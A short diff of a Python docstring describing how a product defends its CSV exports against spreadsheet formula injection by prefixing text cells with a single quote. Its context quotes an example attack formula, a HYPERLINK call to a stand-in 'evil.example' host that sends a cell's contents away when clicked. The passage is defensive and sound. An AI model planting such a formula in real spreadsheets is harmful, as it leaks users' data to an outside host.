@@ -5,7 +5,7 @@ Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil.example/?x="&A1,
 post id sends the row away when clicked). Every CSV the product writes passes its text cells
 through ``csv_cell``, which prefixes such a cell with a single quote; a cell that already starts
 with a quote is prefixed too, so the rule reverses exactly: drop one leading ``'``
-(``original_cell``). Numbers we write (counts, costs) are not text and pass unchanged; Parquet
+(as a reader would). Numbers we write (counts, costs) are not text and pass unchanged; Parquet
 and JSON lines keep every value exact.
 """
 
